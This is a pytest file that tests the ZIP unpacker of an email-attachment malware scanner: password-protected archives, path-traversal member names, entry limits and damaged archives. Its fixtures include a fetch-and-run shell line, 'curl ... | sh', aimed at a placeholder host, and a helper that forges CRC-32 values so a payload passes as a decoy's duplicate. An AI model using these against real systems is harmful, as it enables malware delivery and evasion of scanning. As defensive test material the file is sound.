"""ZIP unpacker: members, names as data, ZipCrypto/AES passwords from the body, limits, corpus zips."""

from __future__ import annotations

import io
import struct

import pytest
import pyzipper

from coinguard.analyzers import ITEM_ANALYZERS
from coinguard.findings import Finding, Item
from coinguard.passwords import harvest
from coinguard.scan import ScanContext, scan_message
from coinguard.sniff import sniff
from coinguard.unpack.common import sevenzip_program
from coinguard.unpack.zip_archive import ZipArchive, declared_entry_count, first_entries
from unpack.builders import LNK, sevenzip_archive, zip_archive

from helpers import DATA, make_context, make_message, need_corpus


def item_of(data: bytes, name: str = "a.zip") -> Item:
    return Item(path=name, name=name, data=data, type=sniff(data))


def run(data: bytes, body: str = "", name: str = "a.zip") -> tuple[list[Finding], list[Item]]:
    ctx = make_context(passwords=harvest([body]) if body else ())
    out = list(ZipArchive().handle(item_of(data, name), ctx))
    return [o for o in out if isinstance(o, Finding)], [o for o in out if isinstance(o, Item)]


def codes(findings: list[Finding]) -> list[str]:
    return [f.code for f in findings]


def test_members_keep_their_folders_and_get_sniffed_types() -> None:
    findings, items = run(zip_archive({"docs/invoice.pdf.lnk": LNK, "readme.txt": b"hello there"}))
    assert findings == []
    assert {(i.path, i.type, i.depth, i.role) for i in items} == {
        ("a.zip/docs/invoice.pdf.lnk", "lnk", 1, "member"),
        ("a.zip/readme.txt", "text", 1, "member"),
    }


def test_hostile_member_names_stay_data() -> None:
    data = zip_archive({"../../etc/cron.d/x": b"a", "/abs/path.txt": b"b", "C:\\Users\\evil.bat": b"@echo off\r\n"})
    _findings, items = run(data)
    paths = sorted(i.path for i in items)
    assert paths == ["a.zip/Users/evil.bat", "a.zip/abs/path.txt", "a.zip/etc/cron.d/x"]
    assert all(".." not in p and ":" not in p for p in paths)
    # the name never decides the type: a .bat name with text content is what sniff says
    assert {i.name: i.type for i in items}["C:\\Users\\evil.bat"] == "script.bat"


@pytest.mark.parametrize("aes", [True, False], ids=["aes", "zipcrypto"])
def test_password_from_the_body_opens_the_archive(aes: bool) -> None:
    data = zip_archive({"invoice.pdf.lnk": LNK, "note.txt": b"x" * 5000}, password=b"Kx-4471!", aes=aes)
    findings, items = run(data, body="Hello,\nthe password is Kx-4471! for the attached statement.\n")
    assert codes(findings) == ["archive.encrypted", "archive.password_found"]
    assert "Kx-4471!" in findings[1].detail
    assert sorted(i.path for i in items) == ["a.zip/invoice.pdf.lnk", "a.zip/note.txt"]
    assert next(i for i in items if i.name == "invoice.pdf.lnk").data == LNK


def test_unknown_password_is_reported_and_nothing_is_extracted() -> None:
    data = zip_archive({"invoice.pdf.lnk": LNK}, password=b"not-in-the-mail")
    findings, items = run(data, body="please open the attachment")
    assert codes(findings) == ["archive.encrypted", "archive.encrypted_unopened"]
    assert items == []


def test_configured_common_password_opens_the_archive() -> None:
    findings, items = run(zip_archive({"a.txt": b"secret text"}, password=b"infected", aes=False))
    assert "archive.password_found" in codes(findings)
    assert [i.data for i in items] == [b"secret text"]


def test_corrupt_zip_is_a_parse_error() -> None:
    data = zip_archive({"a.txt": b"hello " * 100})
    findings, items = run(data[:40] + b"\0" * 30 + data[70:])
    # reported once; what 7-Zip still recovers is scanned, and a member it recovers cut short is unreadable
    assert codes(findings) == ["archive.parse_error", "archive.unreadable"]
    assert all(len(i.data) < 600 for i in items)
    findings, items = run(b"PK\x03\x04" + b"\xff" * 100)
    assert codes(findings) == ["archive.parse_error"]


@pytest.mark.skipif(sevenzip_program() is None, reason="the 7-Zip program is not installed")
def test_zip_without_central_directory_is_read_from_local_headers() -> None:
    data = zip_archive({"invoice.pdf.lnk": LNK, "b.txt": b"second member"})
    truncated = data[: data.find(b"PK\x01\x02")]  # cut before the central directory, as a broken download
    findings, items = run(truncated)
    assert codes(findings) == ["archive.parse_error"]
    assert sorted(i.name for i in items) == ["b.txt", "invoice.pdf.lnk"]
    assert next(i for i in items if i.type == "lnk").data == LNK


def test_identical_members_are_scanned_once_per_extension() -> None:
    data = zip_archive({f"copy{i}.bin": b"same bytes" * 50 for i in range(16)} | {"copy.pdf.exe": b"same bytes" * 50})
    _findings, items = run(data)
    assert sorted(i.name for i in items) == ["copy.pdf.exe", "copy0.bin"]


def test_aes_members_without_crc_are_never_taken_for_duplicates() -> None:
    data = zip_archive({"a.txt": b"harmless text", "b.txt": b"evil payload!"}, password=b"pw-1")  # AE-2: CRC 0
    _findings, items = run(data, body="password: pw-1")
    assert sorted(i.data for i in items) == [b"evil payload!", b"harmless text"]


def test_members_needing_another_password_are_reported_once() -> None:
    buf = io.BytesIO()
    with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as zf:
        zf.setpassword(b"one-pass")
        zf.writestr("a.txt", b"first")
        zf.setpassword(b"two-pass")
        zf.writestr("b.txt", b"second member")
        zf.writestr("c.txt", b"third member!")
    findings, items = run(buf.getvalue(), body="password: one-pass")
    assert codes(findings) == ["archive.encrypted", "archive.password_found", "archive.encrypted_unopened"]
    assert "2 member(s)" in findings[2].detail
    assert [i.name for i in items] == ["a.txt"]


def test_an_archive_declaring_too_many_entries_is_not_parsed() -> None:
    data = bytearray(zip_archive({"a.txt": b"a"}))
    eocd = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, eocd + 8, 60000, 60000)
    assert declared_entry_count(bytes(data)) == 60000
    findings, items = run(bytes(data))
    assert codes(findings) == ["container.limit.files"]
    assert items == []


def test_concatenated_zips_are_both_scanned() -> None:
    first = zip_archive({"invoice.pdf.lnk": LNK})
    second = zip_archive({"readme.txt": b"nothing to see"})
    findings, items = run(first + second)
    assert codes(findings) == ["archive.concatenated"]
    assert sorted(i.path for i in items) == ["a.zip/<concatenated part>.zip", "a.zip/readme.txt"]
    part = next(i for i in items if i.name == "<concatenated part>.zip")
    assert part.type == "zip"
    _findings, inner = run(part.data)
    assert [i.name for i in inner] == ["invoice.pdf.lnk"]


def test_an_empty_encrypted_member_is_never_the_password_probe() -> None:
    data = zip_archive({"empty.txt": b"", "invoice.pdf.lnk": LNK}, password=b"right-one", aes=False)
    # ZipCrypto checks one byte of the key: about one wrong password in 256 "opens" the empty member
    with pyzipper.AESZipFile(io.BytesIO(data)) as zf:
        fooled = next(f"wrong{n}" for n in range(100_000) if _opens(zf, "empty.txt", f"wrong{n}".encode()))
    findings, items = run(data, body=f"password: {fooled}\nor else password: right-one")
    assert codes(findings) == ["archive.encrypted", "archive.password_found"]
    assert "right-one" in findings[1].detail
    assert sorted(i.name for i in items) == ["empty.txt", "invoice.pdf.lnk"]


def _opens(zf: pyzipper.AESZipFile, name: str, password: bytes) -> bool:
    try:
        zf.read(name, pwd=password)
    except Exception:
        return False
    return True


def test_applies_to_zip_and_jar_but_not_office_documents() -> None:
    unpacker = ZipArchive()
    assert unpacker.applies_to(item_of(zip_archive({"a.txt": b"a"})))
    assert unpacker.applies_to(item_of(zip_archive({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"})))
    docx = zip_archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    assert not unpacker.applies_to(item_of(docx, "a.docx"))


def test_headline_lnk_three_layers_down_with_the_password_only_in_the_body() -> None:
    """issue 4 'done means': statement.zip (AES, password in body) / docs / inner.7z / invoice.pdf.lnk."""
    lnk = (DATA / "strelka_test.lnk").read_bytes()
    inner = sevenzip_archive({"invoice.pdf.lnk": lnk})
    outer = zip_archive({"docs/inner.7z": inner}, password=b"Stm-2291")
    raw = make_message(subject="Your account statement", body="Dear customer,\n\nArchive password: Stm-2291\n",
                       attachments=[("statement.zip", outer, "application/zip")])
    verdict = scan_message(raw, ScanContext())
    target = "statement.zip/docs/inner.7z/invoice.pdf.lnk"
    assert target in [a.path for a in verdict.attachments]
    assert next(a for a in verdict.attachments if a.path == target).type == "lnk"
    found = {f.code for f in verdict.findings}
    assert {"archive.encrypted", "archive.password_found"} <= found
    if any(a.name == "lnk" for a in ITEM_ANALYZERS):  # the LNK analyzer reports the shortcut at its full path
        assert any(f.path == target and f.code.startswith("lnk.") for f in verdict.findings)
    # without the password in the body the archive stays closed, and says so
    raw = make_message(subject="Your account statement", body="Dear customer, see attached.",
                       attachments=[("statement.zip", outer, "application/zip")])
    verdict = scan_message(raw, ScanContext())
    assert "archive.encrypted_unopened" in {f.code for f in verdict.findings}
    assert target not in [a.path for a in verdict.attachments]


@pytest.mark.corpus
@pytest.mark.parametrize(
    ("name", "expected_codes", "min_members"),
    [
        ("test.zip", set(), 1),
        ("test_zip_password.zip", {"archive.encrypted", "archive.password_found"}, 1),
        ("test_mixedcrypto.zip", {"archive.encrypted"}, 1),
    ],
)
def test_corpus_zips(name: str, expected_codes: set[str], min_members: int) -> None:
    data = (need_corpus() / "benign" / "attachments" / "strelka" / name).read_bytes()
    findings, items = run(data, name=name)
    assert expected_codes <= set(codes(findings))
    assert "archive.parse_error" not in codes(findings)
    assert len(items) >= min_members


def test_a_zip_declaring_too_many_entries_is_read_up_to_the_limit() -> None:
    members = {f"f{n:05d}.txt": b"member %d" % n for n in range(5000)}
    data = zip_archive(members, aes=False)
    ctx = make_context()
    out = list(ZipArchive().handle(item_of(data), ctx))
    findings = [o for o in out if isinstance(o, Finding)]
    items = [o for o in out if isinstance(o, Item)]
    limit = ctx.budget.limits.max_files
    assert codes(findings) == ["container.limit.files"] and "declares 5000 entries" in findings[0].detail
    assert [i.name for i in items] == [f"f{n:05d}.txt" for n in range(limit)]  # the first ones, in order


def test_first_entries_cuts_the_central_directory() -> None:
    data = zip_archive({"a.txt": b"A", "b.txt": b"B", "c.txt": b"C"}, aes=False)
    cut = first_entries(data, 2)
    assert cut is not None and declared_entry_count(cut) == 2
    with pyzipper.AESZipFile(io.BytesIO(cut)) as zf:
        assert zf.namelist() == ["a.txt", "b.txt"] and zf.read("b.txt") == b"B"
    assert first_entries(data[:-5], 2) is None  # no end record: nothing to cut
    prefixed = b"junk before the archive" + data  # zipfile allows data in front; so does the cut
    cut = first_entries(prefixed, 1)
    assert cut is not None
    with pyzipper.AESZipFile(io.BytesIO(cut)) as zf:
        assert zf.read("a.txt") == b"A"


@pytest.mark.skipif(sevenzip_program() is None, reason="the 7-Zip program is not installed")
@pytest.mark.parametrize("name", [b"eic\nar.txt", b"eic\rar.txt", b"eic\tar.txt", b"a_b.txt"])
def test_local_headers_only_zip_with_control_characters_in_a_name(name: bytes) -> None:
    """7-Zip prints some control characters as '_': such a member is still read (by a one-match pattern)."""
    data = zip_archive({name.decode(): b"the member"}, aes=False)
    findings, items = run(data[: data.find(b"PK\x01\x02")])
    assert codes(findings) == ["archive.parse_error"]
    assert [i.data for i in items] == [b"the member"]


@pytest.mark.skipif(sevenzip_program() is None, reason="the 7-Zip program is not installed")
def test_members_7zip_cannot_tell_apart_are_unreadable_not_skipped() -> None:
    data = zip_archive({"a\nb.txt": b"one", "a\rb.txt": b"two"}, aes=False)
    findings, items = run(data[: data.find(b"PK\x01\x02")])
    assert "archive.unreadable" in codes(findings), codes(findings)  # 'a_b.txt' (the newline) matches both names
    assert [i.data for i in items] == [b"two"]  # 7-Zip prints the CR as is: that one is selected by its name


def test_damaged_zip_without_the_7zip_program_is_unreadable(monkeypatch: pytest.MonkeyPatch) -> None:
    from coinguard.unpack import common

    monkeypatch.setattr(common, "sevenzip_program", lambda: None)
    data = zip_archive({"a.txt": b"A"}, aes=False)
    findings, items = run(data[: data.find(b"PK\x01\x02")])
    assert codes(findings) == ["archive.parse_error", "archive.unreadable"] and items == []
    assert "not installed" in findings[1].detail


def forged_crc_suffix(data: bytes, target: int) -> bytes:
    """Four bytes that make ``crc32(data + suffix) == target`` (CRC-32 is affine in the last 32 bits: solved
    over GF(2)) -- how a header's CRC is made to lie about different content without a CRC error."""
    import zlib

    base = zlib.crc32(data + bytes(4))
    columns = [zlib.crc32(data + (1 << bit).to_bytes(4, "little")) ^ base for bit in range(32)]
    # Gaussian elimination: rows (column vector, the suffix bit it stands for)
    rows = [(col, 1 << bit) for bit, col in enumerate(columns)]
    want, solution = target ^ base, 0
    for pivot in range(32):
        mask = 1 << pivot
        at = next(i for i in range(pivot, 32) if rows[i][0] & mask)
        rows[pivot], rows[at] = rows[at], rows[pivot]
        for i in range(32):
            if i != pivot and rows[i][0] & mask:
                rows[i] = (rows[i][0] ^ rows[pivot][0], rows[i][1] ^ rows[pivot][1])
    for pivot in range(32):
        if want & (1 << pivot):
            solution ^= rows[pivot][1]
    return solution.to_bytes(4, "little")


def _stored_zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_STORED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def test_only_members_whose_declared_crc_and_size_collide_have_their_bytes_hashed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from coinguard.unpack import zip_archive as module

    hashed: list[int] = []
    real = module.stored_bytes_digest

    def counting(data: bytes, start: int, length: int) -> bytes | None:
        hashed.append(length)
        return real(data, start, length)

    monkeypatch.setattr(module, "stored_bytes_digest", counting)
    same = b"the same bytes, twice " * 30
    data = zip_archive({"a.txt": b"first text", "b.txt": b"second text", "c.bin": bytes(range(256)),
                        "copy1.txt": same, "copy2.txt": same})
    _findings, items = run(data)
    assert sorted(i.name for i in items) == ["a.txt", "b.txt", "c.bin", "copy1.txt"]  # the copy once
    assert len(hashed) == 2  # the two that declare one CRC and size, not the three unique ones


def test_a_header_whose_crc_and_size_lie_about_different_bytes_is_read_too() -> None:
    import zlib

    decoy = b"Quarterly figures attached, nothing to see here at all.".ljust(64, b".")
    payload = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n".ljust(60, b"#")
    payload += forged_crc_suffix(payload, zlib.crc32(decoy))
    assert zlib.crc32(payload) == zlib.crc32(decoy) and len(payload) == len(decoy) and payload != decoy
    findings, items = run(_stored_zip({"report.txt": decoy, "notes.txt": payload}))
    assert findings == []
    assert sorted(i.data for i in items) == sorted([decoy, payload])  # not skipped as the decoy's copy
